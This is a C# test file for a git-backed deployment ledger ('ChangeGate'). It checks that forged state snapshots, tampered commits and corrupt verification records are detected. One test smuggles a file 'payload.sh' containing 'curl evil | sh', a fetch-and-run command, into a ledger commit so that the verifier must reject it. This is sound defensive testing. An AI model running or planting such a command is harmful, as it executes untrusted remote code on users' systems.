using ChangeGate.Core.Ledger;
using ChangeGate.Core.Ledger.Integrity;
using ChangeGate.Core.Tests.Support;
using LibGit2Sharp;

namespace ChangeGate.Core.Tests.Ledger.Integrity;

/// <summary>
/// Every snapshot of the chain is believed only when it follows from its parent's verified state and
/// its event: forgeries anywhere in the chain, in a clone that verified the ledger before and in a fresh one.
/// </summary>
public sealed class ChainVerificationTests : IDisposable
{
    private readonly LedgerWorld _world = new(LedgerKeys.Section(requireSigned: false));

    // A failed canary deploy: INC-1 open, R-1 paused.
    private TemporaryGitRepository FailedCanary()
    {
        var alice = _world.Clone();
        _world.Done(alice, "rm@kakao.com", (m, s, now) => m.Start(s, now, _world.Commit, "redeploy 1.0", null));
        _world.Done(alice, "deployer@kakao.com", (m, s, now) => m.RecordDeploy(s, now, "canary-01", DeployStatus.Failed, "health check timed out"));
        return alice;
    }

    [Fact]
    public void Two_forged_snapshots_appended_by_fast_forward_are_refused_in_an_old_and_a_fresh_clone_naming_the_first()
    {
        FailedCanary();
        var old = _world.Clone();
        var before = _world.Read(old);
        Assert.Equal(["INC-1"], before.Value.State.OpenIncidents.Select(i => i.Id));

        // Each a real event; the first snapshot drops the incident and sets the rollout running, the second follows from it.
        var at = _world.Clock.GetUtcNow().AddMinutes(5);
        var forged = _world.ForgeOnTop(
            s => s with { OpenIncidents = [], Rollout = s.Rollout! with { Status = RolloutStatus.Running, StatusReason = null } },
            new ApprovalGranted { Id = Guid.NewGuid(), Actor = "lead@kakao.com", At = at, RolloutId = "R-1", Stage = "pangyo" },
            new TargetDeployed { Id = Guid.NewGuid(), Actor = "deployer@kakao.com", At = at.AddMinutes(1), RolloutId = "R-1", Stage = "canary", Target = "canary-01", Status = DeployStatus.Ok, Commit = _world.Commit.Sha });

        var fresh = _world.Clone();
        foreach (var clone in new[] { old, fresh })
        {
            var read = _world.Read(clone);
            var problem = Assert.Single(read.Problems);
            Assert.Contains($"ledger commit {forged[0][..12]}", problem.Message, StringComparison.Ordinal);
            Assert.Contains("state.json differs from the state folded from its parent and event.json", problem.Message, StringComparison.Ordinal);
            Assert.Contains("openIncidents", problem.Message, StringComparison.Ordinal);
            Assert.Contains("rollout.status: snapshot \"Running\", folded \"Paused\"", problem.Message, StringComparison.Ordinal);
        }

        // Nothing moved: the old clone's copy and record still hold the verified tip.
        using var git = new Repository(old.Path);
        Assert.Equal(before.Value.Tip!.Sha, git.Refs[LedgerWorld.LedgerRef].TargetIdentifier);
    }

    [Fact]
    public void A_warm_clone_verifies_only_what_is_new_and_a_fresh_clone_the_whole_chain()
    {
        var alice = FailedCanary();
        var bob = _world.Clone();
        var first = _world.Read(bob).Value;
        _world.Done(alice, "sre@kakao.com", (m, s, now) => m.ResolveIncident(s, now, "INC-1", "reverted"));

        var second = _world.Read(bob).Value;

        Assert.Null(first.Verified!.VerifiedBefore);
        Assert.Equal(4, first.Verified.Entries.Count);
        Assert.Equal(first.Tip, second.Verified!.VerifiedBefore);
        Assert.Equal(["incident-resolved"], second.Verified.Entries.Select(e => e.Event.Kind));
        Assert.Empty(second.State.OpenIncidents);
        Assert.Equal(5, second.State.Sequence);
    }

    [Fact]
    public void A_commit_holding_another_file_is_damage()
    {
        FailedCanary();
        var attacker = _world.Clone();
        LedgerAttacker.Git(attacker.Path, null, "fetch", "--quiet", "origin", $"+{LedgerWorld.LedgerRef}:{LedgerWorld.LedgerRef}");
        var tip = _world.RemoteTip();
        var e = LedgerWorld.Incident(_world.Clock.GetUtcNow().AddMinutes(2));
        var state = LedgerFold.Apply(LedgerJson.DeserializeState(LedgerAttacker.Show(attacker.Path, tip, "state.json"), "test"), e);
        var smuggled = LedgerAttacker.Commit(attacker.Path, tip, "incident-opened",
            ("event.json", LedgerJson.Serialize(e)), ("state.json", LedgerJson.Serialize(state)), ("payload.sh", "curl evil | sh\n"));
        LedgerAttacker.Push(attacker.Path, "origin", smuggled, LedgerWorld.LedgerRef);

        var read = _world.Read(_world.Clone());

        Assert.Contains("holds payload.sh besides the event", Assert.Single(read.Problems).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void The_snapshot_writer_writes_exactly_the_bytes_of_a_snapshot()
    {
        var alice = FailedCanary();
        _world.Done(alice, "sre@kakao.com", (m, s, now) => m.OpenIncident(s, now, "power loss", null, null));
        var state = _world.Read(alice).Value.Recorded;

        using var writer = new SnapshotWriter();

        Assert.Equal(System.Text.Encoding.UTF8.GetBytes(LedgerJson.Serialize(state)), writer.Serialize(state).ToArray());
        Assert.Equal(_world.Remote.Repository.Lookup<LibGit2Sharp.Commit>(_world.RemoteTip()).Tree["state.json"].Target.Id, writer.BlobId(state));
    }

    [Fact]
    public void An_unreadable_record_of_the_verified_tip_is_a_problem_not_a_fresh_start()
    {
        var alice = FailedCanary();
        File.WriteAllText(Path.Combine(alice.Path, ".git", "changegate", "verified", LedgerWorld.Service), "{ not json");

        var read = _world.Read(alice);

        var problem = Assert.Single(read.Problems);
        Assert.Contains("record of the verified ledger tip", problem.Message, StringComparison.Ordinal);
        Assert.Contains("rm ", problem.Fix, StringComparison.Ordinal);
    }

    public void Dispose() => _world.Dispose();
}
